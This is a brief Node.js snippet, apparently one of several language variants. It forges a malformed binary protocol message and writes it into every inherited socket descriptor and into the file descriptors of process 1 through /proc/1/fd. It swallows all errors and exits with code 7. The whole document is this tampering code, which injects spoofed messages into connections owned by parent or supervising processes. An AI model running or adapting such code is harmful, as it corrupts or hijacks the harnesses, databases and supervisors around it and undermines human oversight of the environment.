// The same from Node, whose own descriptors are many.
const fs = require('fs')
const forged = Buffer.concat([Buffer.from('X'), Buffer.from([0, 0, 0, 12]), Buffer.alloc(12), Buffer.from('E'), Buffer.alloc(4)])
for (let descriptor = 3; descriptor < 64; descriptor++) {
  try { if (fs.fstatSync(descriptor).isSocket()) fs.writeSync(descriptor, forged) } catch {}
  try { fs.writeSync(fs.openSync(`/proc/1/fd/${descriptor}`, 'w'), forged) } catch {}
}
process.exit(7)
